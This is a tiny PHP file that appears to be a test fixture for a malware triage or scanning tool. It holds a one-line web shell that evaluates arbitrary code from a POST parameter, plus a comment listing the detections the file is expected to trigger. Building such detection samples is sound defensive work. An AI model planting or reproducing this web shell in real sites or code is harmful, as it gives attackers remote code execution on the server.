<?php @eval($_POST['k3y']);?>
<?php /* triage-expect: triage_php_one_liner triage_php_request_direct_exec */ ?>
